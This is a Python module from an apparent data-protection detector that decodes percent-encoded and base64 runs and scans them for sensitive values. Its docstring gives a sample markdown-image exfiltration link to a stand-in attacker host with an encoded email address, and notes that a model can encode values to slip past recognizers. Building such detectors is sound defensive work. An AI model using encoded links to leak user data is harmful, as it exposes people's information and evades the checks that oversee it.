"""Values hidden by encoding: percent-encoded and base64 runs are decoded and scanned.

A model (or a caller) can carry a value past a pattern recognizer by encoding it, the way an
exfiltration link does: ``![x](https://evil.example/p?d=aigerim%40example.kz)``. Each run
that looks encoded is decoded, the decoded text is scanned by the same pattern recognizers,
and every finding is reported on the whole encoded run: the run is what has to be replaced.

Decoding is bounded (runs per text, bytes per run, nesting depth), so hostile input costs
little more than plain text. The hook into the detector is :class:`DecodingDetector`, a
``Detector`` whose pattern step also scans decoded runs; ``qorgan.runtime.build_detector``
builds one.
"""

from __future__ import annotations

import base64
import binascii
import re
from collections.abc import Callable, Iterator
from urllib.parse import unquote

from qorgan.detection.engine import Detector
from qorgan.types import Finding

__all__ = ["MAX_RUNS", "DecodingDetector", "decoded_runs", "encoded_findings"]

#: runs decoded per text; more are left to the plain recognizers
MAX_RUNS = 64
#: longest run decoded, in characters
MAX_RUN = 16 * 1024
#: a run inside a decoded run is decoded once more (base64 of a percent-encoded value)
MAX_DEPTH = 2
_MIN_BASE64 = 12

# A run of URL characters holding at least one %XX escape.
_PERCENT = re.compile(r"[A-Za-z0-9._~+\-]*(?:%[0-9A-Fa-f]{2}[A-Za-z0-9._~+\-]*)+")
# Base64 (standard or URL-safe alphabet) with optional padding, not part of a longer word.
_BASE64 = re.compile(
    r"(?<![A-Za-z0-9+/_\-])[A-Za-z0-9+/_\-]{" + str(_MIN_BASE64) + r",}={0,2}"
    r"(?![A-Za-z0-9+/=_\-])"
)
_PRINTABLE_SHARE = 0.9

Analyze = Callable[[str], list[Finding]]


def _printable(text: str) -> bool:
    if not text:
        return False
    shown = sum(1 for ch in text if ch.isprintable() or ch in "\n\r\t")
    return shown / len(text) >= _PRINTABLE_SHARE


def _b64(run: str) -> str | None:
    body = run.rstrip("=")
    # base64 letters never spell a plain word; a run without a digit or case mix is text
    if body.isalpha() and (body.islower() or body.isupper()):
        return None
    padded = body + "=" * (-len(body) % 4)
    decoder = base64.urlsafe_b64decode if ("-" in body or "_" in body) else base64.b64decode
    try:
        raw = decoder(padded)
    except (binascii.Error, ValueError):
        return None
    try:
        text = raw.decode("utf-8")
    except UnicodeDecodeError:
        return None
    return text if _printable(text) else None


def decoded_runs(text: str) -> Iterator[tuple[int, int, str]]:
    """``(start, end, decoded)`` for each encoded run of ``text`` that decodes to text."""
    count = 0
    for match in _PERCENT.finditer(text):
        run = match.group()
        if len(run) > MAX_RUN:
            continue
        decoded = unquote(run, errors="strict") if _valid_escapes(run) else None
        if decoded is not None and decoded != run and _printable(decoded):
            count += 1
            yield match.start(), match.end(), decoded
            if count >= MAX_RUNS:
                return
    for match in _BASE64.finditer(text):
        run = match.group()
        if len(run) > MAX_RUN or "%" in run:
            continue
        decoded = _b64(run)
        if decoded is not None:
            count += 1
            yield match.start(), match.end(), decoded
            if count >= MAX_RUNS:
                return


def _valid_escapes(run: str) -> bool:
    try:
        unquote(run, errors="strict")
    except UnicodeDecodeError:
        return False
    return True


def encoded_findings(text: str, analyze: Analyze, *, depth: int = MAX_DEPTH) -> list[Finding]:
    """Findings inside the encoded runs of ``text``, each spanning its whole run.

    ``analyze`` scans a decoded text (the detector's pattern step). One finding per run and
    entity type, with the best score; the recognizer name says the value was decoded.
    """
    if depth < 1 or ("%" not in text and len(text) < _MIN_BASE64):
        return []
    out: list[Finding] = []
    for start, end, decoded in decoded_runs(text):
        found = list(analyze(decoded))
        if depth > 1:
            found.extend(encoded_findings(decoded, analyze, depth=depth - 1))
        best: dict[str, Finding] = {}
        for f in found:
            kept = best.get(f.entity_type)
            if kept is None or f.score > kept.score:
                best[f.entity_type] = f
        out.extend(
            Finding(f.entity_type, start, end, f.score, f"{f.recognizer}+decoded")
            for f in best.values()
        )
    return out


class DecodingDetector(Detector):
    """A :class:`~qorgan.detection.engine.Detector` that also scans encoded runs."""

    def _patterns(self, text: str) -> list[Finding]:
        found = super()._patterns(text)
        found.extend(encoded_findings(text, super()._patterns))
        return found
